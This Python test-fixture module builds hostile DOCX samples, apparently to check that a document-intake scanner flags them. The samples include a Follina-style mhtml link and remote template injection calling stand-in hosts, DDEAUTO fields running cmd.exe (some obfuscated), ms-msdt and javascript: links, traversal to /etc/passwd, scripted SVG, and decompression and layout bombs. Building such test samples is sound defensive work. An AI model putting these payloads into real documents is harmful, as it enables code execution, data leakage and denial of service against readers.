"""WordprocessingML that attacks its reader, after the public literature: template injection, DDE, Follina, pictures,
and shapes that cost layouts their time."""

import struct
import zlib
from collections.abc import Callable

from tests.paper.intake import hostile as h
from tests.paper.intake.hostile_xml import BROKEN, UNSAFE, linked, many, part, replaced

ACTIVE, OUTSIDE = "docx-active-content", "docx-external"


def nested_command(inner: str, outer: str) -> str:
    """A field whose command is what a field inside it shows."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
    shown = f"{mark('begin')}<w:r><w:instrText> = 1 </w:instrText></w:r>{mark('separate')}<w:r><w:t>{inner}</w:t></w:r>"
    return f"<w:p>{mark('begin')}{shown}{mark('end')}<w:r><w:instrText>{outer}</w:instrText></w:r>{mark('end')}</w:p>"


def huge_jpeg() -> bytes:
    frame = struct.pack(">HBHHB", 17, 8, 65_500, 65_500, 3) + bytes([1, 0x11, 0, 2, 0x11, 1, 3, 0x11, 1])
    return b"\xff\xd8\xff\xc0" + frame + b"\xff\xd9"


def emf() -> bytes:
    return struct.pack("<LL", 1, 88) + b"\0" * 32 + b" EMF" + b"\0" * 44


def style_loop(count: int) -> bytes:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % count}"/></w:style>'
        for n in range(count)
    )
    used = b'<w:body><w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>x</w:t></w:r></w:p>'
    return h.changed(
        {
            "word/styles.xml": lambda old: old.replace(b"</w:styles>", styles.encode() + b"</w:styles>"),
            h.DOCUMENT: lambda old: old.replace(b"<w:body>", used, 1),
        }
    )


def vml(attributes: str) -> str:
    space = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
    return f"<w:p><w:r><w:pict><v:shape {space}><v:imagedata {attributes}/></v:shape></w:pict></w:r></w:p>"


def binding() -> str:
    bound = '<w:dataBinding w:xpath="/a" w:storeItemID="{{0}}"/>'
    return f"<w:sdt><w:sdtPr>{bound}</w:sdtPr><w:sdtContent>{h.paragraph('50 triệu')}</w:sdtContent></w:sdt>"


MICROSOFT = "http://schemas.microsoft.com/office"
WORD: dict[str, tuple[set[str], Callable[[], bytes]]] = {
    "macro file renamed": (
        {"docx-macros"},
        lambda: h.of_main_type("application/vnd.ms-word.document.macroEnabled.main+xml"),
    ),
    "macro part renamed": (
        {"docx-macros"},
        lambda: linked("vbaProject", "theme/x.xml", office=f"{MICROSOFT}/2006/relationships", external=False),
    ),
    "remote template": (
        {ACTIVE},
        lambda: linked("attachedTemplate", "http://example.invalid/a.dotm", source="word/_rels/settings.xml.rels"),
    ),
    "template of a share": (
        {ACTIVE},
        lambda: linked("attachedTemplate", "\\\\192.0.2.1\\a\\b.dotm", source="word/_rels/settings.xml.rels"),
    ),
    "Follina": (
        {ACTIVE},
        lambda: linked("oleObject", "mhtml:http://example.invalid/x.html!x-usc:http://example.invalid/x.html"),
    ),
    "link to a handler": ({OUTSIDE}, lambda: linked("hyperlink", "ms-msdt:/id PCWDiagnostic")),
    "link to a search": (
        {OUTSIDE},
        lambda: linked("hyperlink", "search-ms:query=x&amp;crumb=location:\\\\192.0.2.1\\a"),
    ),
    "link without slashes": ({OUTSIDE}, lambda: linked("hyperlink", "file:/etc/passwd", external=False)),
    "link with white space": ({OUTSIDE}, lambda: linked("hyperlink", "&#9;javascript:alert(1)")),
    "target out of the package": ({OUTSIDE}, lambda: linked("image", "../../../../etc/passwd", external=False)),
    "target out, encoded": ({OUTSIDE}, lambda: linked("image", "%2E%2E/%2e%2e/%2e%2e/etc/passwd", external=False)),
    "tracking pixel": ({OUTSIDE}, lambda: linked("image", "http://example.invalid/1.png")),
    "web add-in": (
        {ACTIVE},
        lambda: linked(
            "webextensiontaskpanes",
            "word/w.xml",
            source="_rels/.rels",
            external=False,
            office=f"{MICROSOFT}/2011/relationships",
        ),
    ),
    "ribbon of its own": (
        {ACTIVE},
        lambda: linked(
            "extensibility",
            "customUI/a.xml",
            source="_rels/.rels",
            external=False,
            office=f"{MICROSOFT}/2006/relationships/ui",
        ),
    ),
    "sub-document": ({ACTIVE}, lambda: linked("subDocument", "file:///etc/passwd")),
    "frames": ({ACTIVE}, lambda: linked("frame", "http://example.invalid/", source="word/_rels/webSettings.xml.rels")),
    "mail merge": (
        {ACTIVE},
        lambda: replaced(
            b"<w:compat>", b"<w:mailMerge><w:query w:val='SELECT *'/></w:mailMerge><w:compat>", "word/settings.xml"
        ),
    ),
    "altChunk": ({ACTIVE}, lambda: h.with_body('<w:altChunk xmlns:r="x" r:id="rId9"/>')),
    "page inside": ({ACTIVE}, lambda: part("word/x.mht", b"MIME-Version: 1.0", "message/rfc822")),
    "OLE object": (
        {ACTIVE},
        lambda: part(
            "word/embeddings/oleObject1.bin",
            b"\xd0\xcf\x11\xe0",
            "application/vnd.openxmlformats-officedocument.oleObject",
        ),
    ),
    "ActiveX": ({ACTIVE}, lambda: h.with_body('<w:p><w:r><w:control w:name="x"/></w:r></w:p>')),
    "program as part": ({UNSAFE}, lambda: h.changed({}, ("word/setup.exe", b"MZ"))),
    "DDE": ({"docx-fields"}, lambda: h.with_body(h.field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'))),
    "DDE, letter by letter": ({"docx-fields"}, lambda: h.with_body(h.field(*"DDEAUTO x y"))),
    "DDE by tab": ({"docx-fields"}, lambda: h.with_body(h.field("\tDDE\tcmd\t"))),
    "DDE from QUOTE": ({"docx-fields"}, lambda: h.with_body(h.field(" QUOTE 68 68 69 65 85 84 79 "))),
    "DDE from a result": ({"docx-fields"}, lambda: h.with_body(nested_command("DDEAUTO cmd ", " PAGE "))),
    "DDE in a comment": (
        {"docx-fields"},
        lambda: part("word/comments.xml", f"<w:comments {h.W}>{h.field('DDEAUTO x')}</w:comments>".encode()),
    ),
    "DDE never ended": (
        {"docx-fields"},
        lambda: h.with_body(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDEAUTO x</w:instrText></w:r></w:p>'
        ),
    ),
    "INCLUDEPICTURE": ({"docx-fields"}, lambda: h.with_body(h.field('INCLUDEPICTURE "http://example.invalid/x" \\d'))),
    "INCLUDETEXT": ({"docx-fields"}, lambda: h.with_body(h.field('INCLUDETEXT "/etc/passwd"'))),
    "link field to a share": ({OUTSIDE}, lambda: h.with_body(h.field('HYPERLINK "\\\\\\\\192.0.2.1\\\\x"'))),
    "link field to a script": ({OUTSIDE}, lambda: h.with_body(h.field("HYPERLINK javascript:alert(1)"))),
    "VML picture of the network": ({OUTSIDE}, lambda: h.with_body(vml('src="http://example.invalid/a.png"'))),
    "VML picture of a share": ({OUTSIDE}, lambda: h.with_body(vml('o:href="\\\\192.0.2.1\\a.png"'))),
    "SVG with a script": ({"docx-images"}, lambda: h.with_image("a.svg", b"<svg><script>alert(1)</script></svg>")),
    "SVG under the name of a PNG": ({"docx-images"}, lambda: h.with_image("a.png", b"<svg onload='x()'/>")),
    "EMF": ({"docx-images"}, lambda: h.with_image("a.emf", emf())),
    "WMF": ({"docx-images"}, lambda: h.with_image("a.wmf", b"\xd7\xcd\xc6\x9a" + b"\0" * 40)),
    "PostScript": ({"docx-images"}, lambda: h.with_image("a.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file")),
    "PNG bomb": ({"docx-images"}, lambda: h.with_image("a.png", h.png(60_000))),
    "PNG of the right start": (
        {"docx-images"},
        lambda: h.with_image("a.png", b"\x89PNG\r\n\x1a\n" + zlib.compress(b"")),
    ),
    "JPEG of four thousand megapixels": ({"docx-images"}, lambda: h.with_image("a.jpg", huge_jpeg())),
    "TIFF": ({"docx-images"}, lambda: h.with_image("a.png", b"II*\0" + b"\0" * 40)),
    "font that swaps letters": (
        {"docx-embedded-fonts"},
        lambda: part(
            "word/fonts/font1.odttf", b"\0" * 64, "application/vnd.openxmlformats-officedocument.obfuscatedFont"
        ),
    ),
    "text bound elsewhere": ({ACTIVE}, lambda: h.with_body(binding())),
    "amount turned by bidi": ({UNSAFE}, lambda: h.with_body(h.paragraph("\u202e005 uệirt\u202c"))),
    "text turned by element": (
        {ACTIVE},
        lambda: h.with_body('<w:p><w:bdo w:val="rtl"><w:r><w:t>005</w:t></w:r></w:bdo></w:p>'),
    ),
    "table of a million columns": (
        {"file-too-complex"},
        lambda: h.with_body(
            '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>'
        ),
    ),
    "table of ninety thousand cells": (
        {"docx-too-complex", "file-too-complex"},
        lambda: h.with_body(f"<w:tbl><w:tr>{many('<w:tc><w:p w:rsidR={}/></w:tc>', 90_000)}</w:tr></w:tbl>"),
    ),
    "fifteen hundred tables in each other": ({"docx-too-complex", BROKEN}, lambda: h.with_body(h.nested_tables(1_500))),
    "two hundred thousand paragraphs": ({"docx-too-complex"}, lambda: h.with_body(many("<w:p w:rsidR={}/>", 200_000))),
    "style that builds on itself": ({"in"}, lambda: style_loop(1)),
    "circle of ten thousand styles": ({"in"}, lambda: style_loop(10_000)),
    "two hundred thousand runs": (
        {"in"},
        lambda: h.with_body(f"<w:p>{many('<w:r w:rsidR={}><w:t>a</w:t></w:r>', 200_000)}</w:p>"),
    ),
    "fields in each other": (
        {"in"},
        lambda: h.with_body(
            "<w:p><w:r>" + '<w:fldChar w:fldCharType="begin"/><w:instrText> = </w:instrText>' * 5_000 + "</w:r></w:p>"
        ),
    ),
}
